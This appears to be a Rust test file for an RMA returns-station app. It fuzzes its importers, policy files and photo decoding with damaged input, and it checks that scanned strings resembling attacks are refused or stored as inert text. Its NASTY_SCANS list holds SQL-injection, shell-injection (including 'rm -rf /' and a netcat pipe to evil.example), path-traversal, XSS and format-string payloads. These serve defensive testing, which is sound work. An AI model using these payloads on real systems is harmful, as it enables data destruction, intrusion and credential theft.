//! Garbage in: every parser the outside world feeds, fed random and damaged input — the scan classifier,
//! the station's CSV and JSON importers, Shopify's export and the category map, policy files, the
//! `decide` JSON, and photo decoding with its EXIF — must answer with a value or an error that says what
//! and where, never panic, never hang, and a refused photo must leave nothing behind. Damaged input is a
//! real file with bytes flipped, inserted, deleted, repeated or cut, and tokens that trouble parsers
//! spliced in. `RMA_FUZZ_CASES` raises the number of cases per parser (RELIABILITY.md).
//!
//! The merchants' and clerks' files are also fuzzed knowing their structure (`structured`): real documents
//! changed field by field, where a value the documents call wrong must be refused at its line and column,
//! and what is accepted must stay inside the bounds and decide adding up. What those fuzzers found is kept
//! as fixed cases (`found`).
//!
//! And scanned text that looks like SQL, a shell command or a path is refused or kept as inert text, on SQLite
//! and on PostgreSQL (`on_both!`).

use std::sync::LazyLock;
use std::sync::mpsc::sync_channel;
use std::time::Duration;

use chrono::FixedOffset;
use proptest::prelude::*;
use rma_station::domain::scan::{Classifier, Framer, FramerConfig, FramerEvent, RefusalReason};
use rma_station::formats::case_json::decide_case_json;
use rma_station::formats::import::{
    FileKind, parse_category_map, parse_shopify_orders, parse_station_orders, parse_station_rmas,
};
use rma_station::formats::scan_json::classification_json;
use rma_station::photos::decode::{DecodeLimits, THUMBNAIL_EDGE, render};
use rma_station::photos::ingest::ingest;
use rma_station::photos::store::PhotoFolder;
use rma_station::storage::{ReceivedPackage, Stamp};

use super::size;
use crate::support::place::{Backend, Place, on_both};
use crate::support::{POLICIES, TODAY, clock, date, fixture};

mod csv_doc;
mod found;
mod json_doc;
mod nasty;
mod schemas;
mod seeds;
mod structured;
mod toml_doc;

/// Only a hang ever reaches this: the slowest case here takes milliseconds.
const HANG: Duration = Duration::from_secs(20);

/// Runs `parse` on its own thread and fails if it panics or does not answer within [`HANG`].
#[track_caller]
fn answers<T: Send + 'static>(what: &str, parse: impl FnOnce() -> T + Send + 'static) -> T {
    let (tx, rx) = sync_channel(1);
    std::thread::Builder::new()
        .name(format!("garbage:{what}"))
        .spawn(move || {
            let _ = tx.send(parse());
        })
        .unwrap();
    match rx.recv_timeout(HANG) {
        Ok(value) => value,
        Err(std::sync::mpsc::RecvTimeoutError::Timeout) => panic!("{what}: no answer after {HANG:?}: a hang"),
        Err(std::sync::mpsc::RecvTimeoutError::Disconnected) => panic!("{what}: panicked (see above)"),
    }
}

/// The classifier with the built-in merchants' patterns, built once.
static CLASSIFIER: LazyLock<Classifier> = LazyLock::new(|| Classifier::new(&POLICIES.classifier_config()).unwrap());

fn config() -> ProptestConfig {
    ProptestConfig { cases: size("RMA_FUZZ_CASES", 200) as u32, failure_persistence: None, ..ProptestConfig::default() }
}

/// Tokens that trouble parsers: quotes, separators, line ends, NUL, huge and odd numbers, brackets,
/// invalid UTF-8, a direction override.
const TOKENS: &[&[u8]] = &[
    b"\"",
    b",",
    b"\n",
    b"\r\n",
    b"\r",
    b"\0",
    b"-1",
    b"99999999999999999999999",
    b"1e309",
    b"NaN",
    b"0.001",
    b"[",
    b"]",
    b"{",
    b"}",
    b"=",
    b"'''",
    b"\"\"\"",
    b"\xff\xfe",
    b"\xe2\x80\xae",
    b"#",
    b";",
    b"\t",
    b"  ",
    b"2026-02-30",
    b"$",
    b"%",
];

#[derive(Debug, Clone)]
enum Damage {
    Flip(usize, u8),
    Insert(usize, Vec<u8>),
    Token(usize, usize),
    Delete(usize, usize),
    Repeat(usize, usize),
    Cut(usize),
}

fn damage() -> impl Strategy<Value = Damage> {
    prop_oneof![
        4 => (any::<usize>(), any::<u8>()).prop_map(|(at, byte)| Damage::Flip(at, byte)),
        2 => (any::<usize>(), prop::collection::vec(any::<u8>(), 1..16)).prop_map(|(at, bytes)| Damage::Insert(at, bytes)),
        3 => (any::<usize>(), 0..TOKENS.len()).prop_map(|(at, token)| Damage::Token(at, token)),
        2 => (any::<usize>(), 1..64_usize).prop_map(|(at, len)| Damage::Delete(at, len)),
        1 => (any::<usize>(), 1..256_usize).prop_map(|(at, len)| Damage::Repeat(at, len)),
        1 => any::<usize>().prop_map(Damage::Cut),
    ]
}

fn damaged(original: &[u8], damages: &[Damage]) -> Vec<u8> {
    let mut bytes = original.to_vec();
    for d in damages {
        let at = |i: usize, bytes: &Vec<u8>| if bytes.is_empty() { 0 } else { i % (bytes.len() + 1) };
        match d {
            Damage::Flip(i, byte) if !bytes.is_empty() => {
                let i = i % bytes.len();
                bytes[i] ^= byte | 1;
            }
            Damage::Flip(..) => {}
            Damage::Insert(i, new) => {
                let i = at(*i, &bytes);
                bytes.splice(i..i, new.iter().copied());
            }
            Damage::Token(i, token) => {
                let i = at(*i, &bytes);
                bytes.splice(i..i, TOKENS[*token].iter().copied());
            }
            Damage::Delete(i, len) => {
                let i = at(*i, &bytes);
                let end = (i + len).min(bytes.len());
                bytes.drain(i..end);
            }
            Damage::Repeat(i, len) => {
                let i = at(*i, &bytes);
                let end = (i + len).min(bytes.len());
                let copy = bytes[i..end].to_vec();
                bytes.splice(end..end, copy);
            }
            Damage::Cut(i) => {
                let i = at(*i, &bytes);
                bytes.truncate(i);
            }
        }
    }
    bytes
}

fn damages() -> impl Strategy<Value = Vec<Damage>> {
    prop::collection::vec(damage(), 1..5)
}

fn file(relative: &str) -> Vec<u8> {
    std::fs::read(fixture(relative)).unwrap()
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// An import's answer: records, or an error that names the file (and a line, when the file has one).
#[track_caller]
fn check_import<T>(file: &str, result: Result<T, rma_station::formats::import::ImportError>) {
    if let Err(error) = result {
        let words = error.to_string();
        assert!(words.starts_with(file), "an error that does not name the file: {words}");
        assert!(!error.message.trim().is_empty(), "an error without a reason: {words}");
    }
}

proptest! {
    #![proptest_config(config())]

    #[test]
    fn the_classifier_answers_any_text(code in "\\PC{0,80}", bytes in prop::collection::vec(any::<u8>(), 0..80)) {
        for code in [code, text(&bytes)] {
            let classified = answers("classify", move || {
                let classified = CLASSIFIER.classify(&code);
                (classified.normalized(), classification_json(&classified).to_string())
            });
            prop_assert!(!classified.1.is_empty());
        }
    }

    #[test]
    fn station_imports_answer_damaged_files(which in 0..4_usize, damage in damages()) {
        let (name, kind) = [
            ("import/station-orders.csv", FileKind::Csv),
            ("import/station-orders.json", FileKind::Json),
            ("import/station-rmas.csv", FileKind::Csv),
            ("import/station-rmas.json", FileKind::Json),
        ][which];
        let input = text(&damaged(&file(name), &damage));
        answers("station import", move || {
            let mut ignore = |_| {};
            if name.contains("orders") {
                check_import(name, parse_station_orders(name, &input, kind, &mut ignore));
            } else {
                check_import(name, parse_station_rmas(name, &input, kind, &mut ignore));
            }
        });
    }

    #[test]
    fn shopify_imports_answer_damaged_files(damage in damages(), map_damage in damages()) {
        let orders = text(&damaged(&file("import/shopify-orders.csv"), &damage));
        let categories = text(&damaged(&file("import/categories.csv"), &map_damage));
        answers("shopify import", move || {
            let offset = FixedOffset::west_opt(5 * 3600).unwrap();
            match parse_category_map("categories.csv", &categories) {
                Ok(map) => check_import("export.csv", parse_shopify_orders("export.csv", &orders, "konnected", &map, offset, &mut |_| {})),
                Err(error) => check_import("categories.csv", Err::<(), _>(error)),
            }
        });
    }

    #[test]
    fn policy_files_answer_damage_with_file_line_and_column(which in 0..2_usize, damage in damages()) {
        let name = ["connectpro.toml", "konnected.toml"][which];
        let original = std::fs::read(std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("assets/policies").join(name)).unwrap();
        let input = text(&damaged(&original, &damage));
        answers("policy file", move || {
            if let Err(error) = rma_station::policies::load(name, &input) {
                let words = error.to_string();
                assert!(words.starts_with(&format!("{name}:{}:{}: ", error.line, error.column)), "{words}");
                assert!(error.line >= 1 && !error.message.trim().is_empty(), "{words}");
            }
        });
    }

    #[test]
    fn decide_answers_damaged_cases(damage in damages()) {
        let input = text(&damaged(&file("decide/spec-example.json"), &damage));
        answers("decide", move || {
            if let Err(error) = decide_case_json(&input, &POLICIES, date(TODAY)) {
                assert!(!error.to_string().trim().is_empty());
            }
        });
    }

    #[test]
    fn photos_answer_damaged_jpegs_and_pngs_and_a_refused_one_leaves_nothing(
        png in any::<bool>(),
        damage in damages(),
    ) {
        let original = if png { small_png() } else { file("photos/camera/Canon_40D.jpg") };
        let input = damaged(&original, &damage);
        answers("photo", move || {
            let limits = DecodeLimits::default();
            let _ = rma_station::photos::exif::read(&input);
            let _ = render(&input, THUMBNAIL_EDGE, image::metadata::Orientation::NoTransforms, &limits);
            let dir = tempfile::tempdir().unwrap();
            let folder = PhotoFolder::new(dir.path().join("photos"));
            match ingest(&folder, &input, clock().now().at, &limits) {
                Ok(ingested) => assert_eq!(folder.list().unwrap(), vec![ingested.stored.sha256]),
                Err(error) => {
                    assert!(!error.to_string().trim().is_empty());
                    assert!(!folder.root().exists(), "a refused photo left files behind: {error}");
                }
            }
        });
    }
}

/// A small real PNG (64 × 48, RGB), encoded here.
fn small_png() -> Vec<u8> {
    use image::ImageEncoder as _;
    let pixels: Vec<u8> = (0..64 * 48 * 3).map(|i| (i % 251) as u8).collect();
    let mut png = Vec::new();
    image::codecs::png::PngEncoder::new(&mut png).write_image(&pixels, 64, 48, image::ExtendedColorType::Rgb8).unwrap();
    png
}

/// Scanned text that tries to be SQL, a shell command, a path, a format string or markup, or that carries
/// control characters or a direction override.
const NASTY_SCANS: &[&str] = &[
    "'; DROP TABLE packages; --",
    "\" OR 1=1 --",
    "RMA-2026-0101' OR '1'='1",
    "$(rm -rf /)",
    "`reboot`",
    "; shutdown -h now",
    "| nc evil.example 4444",
    "../../../../etc/passwd",
    "/etc/shadow",
    "..\\..\\Windows\\System32\\config",
    "photos/../../station.sqlite3",
    "%s%s%s%n",
    "{{7*7}}${7*7}",
    "<script>alert(1)</script>",
    "RMA-2026-0101\u{202e}1010",
    "\u{1b}[2J\u{1b}[31mRMA",
    "RMA\u{0}2026",
    "RMA\u{7}BEL",
    "😀📦",
];

on_both!(scans_that_look_like_sql_shell_or_paths_are_refused_or_kept_as_inert_text);
fn scans_that_look_like_sql_shell_or_paths_are_refused_or_kept_as_inert_text(place: &Place) {
    let mut store = place.open();
    let now = clock().now();
    let stamp = Stamp { at: now.at, station: "bench-1".into(), operator: "sam".into() };
    rma_station::demo::load_demo(&mut *store, now.today, &stamp, &crate::support::pin_secret()).unwrap();
    let before = store.counts().unwrap();
    let (mut refused, mut kept) = (0, 0);
    for code in NASTY_SCANS {
        // Through the serial scanner's framer, as a scanner would send it.
        let mut framer = Framer::new(FramerConfig::default());
        let events = framer.push(format!("{code}\r").as_bytes(), Duration::ZERO);
        let [event] = events.as_slice() else { panic!("{code:?}: {events:?}") };
        let scanned = match event {
            FramerEvent::Refused { reason, preview } => {
                assert!(
                    matches!(reason, RefusalReason::ControlCharacter { .. } | RefusalReason::DirectionControl { .. }),
                    "{code:?}: {reason:?}"
                );
                assert!(
                    !preview.chars().any(|c| c.is_control() || ('\u{202a}'..='\u{202e}').contains(&c)),
                    "{preview:?}"
                );
                refused += 1;
                continue;
            }
            FramerEvent::Scan(scan) => scan.code.clone(),
        };
        assert_eq!(&scanned, code);
        // Looked up like any label (it matches nothing), then received into quarantine as typed.
        let classification = CLASSIFIER.classify(&scanned);
        let found = rma_station::bench::intake::find(&*store, &classification).unwrap();
        assert_eq!(found, rma_station::bench::intake::IntakeMatch::Nothing, "{code:?}");
        let package = ReceivedPackage {
            scanned_code: scanned.clone(),
            scanned_kind: classification.kind().as_str().to_owned(),
            rma_id: None,
            order_id: None,
            note: scanned.clone(),
            another_box: true,
        };
        let id = store.receive_package(&package, &stamp).unwrap();
        let history = store.package_history(id).unwrap();
        assert_eq!((&history.package.scanned_code, &history.package.note), (&scanned, &scanned));
        assert!(store.find_packages(&scanned, 10).unwrap().iter().any(|p| p.id == id), "{code:?}");
        kept += 1;
    }
    assert!(refused >= 4 && kept >= 12, "refused {refused}, kept {kept}");
    // The tables are intact, nothing else changed, and no file appeared in or around the data folder.
    let after = store.counts().unwrap();
    assert_eq!((after.orders, after.rmas, after.packages), (before.orders, before.rmas, before.packages + kept));
    assert!(store.verify().unwrap().is_sound());
    let mut files: Vec<String> = std::fs::read_dir(place.dir())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    files.sort();
    let database: &[&str] = match place.backend() {
        Backend::Sqlite => &["station.sqlite3", "station.sqlite3-shm", "station.sqlite3-wal"],
        Backend::Postgres => &[],
    };
    assert_eq!(files, database);
}
